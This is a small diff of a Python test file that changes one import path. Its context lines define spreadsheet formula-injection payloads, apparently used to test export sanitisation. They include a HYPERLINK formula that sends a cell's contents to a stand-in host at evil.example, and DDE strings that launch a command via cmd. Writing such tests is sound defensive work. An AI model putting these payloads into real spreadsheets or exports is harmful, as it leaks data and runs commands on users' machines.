@@ -22,7 +22,7 @@ from gongjian.rounds.models import GeographyLink
 from tests.conftest import Cast
 from tests.dispatch.conftest import id_number
 from tests.funds.conftest import make_pairs
-from tests.orgs.test_joint_services import make_joint_cast
+from tests.joint.test_services import make_joint_cast
 
 LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
 PAYLOADS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
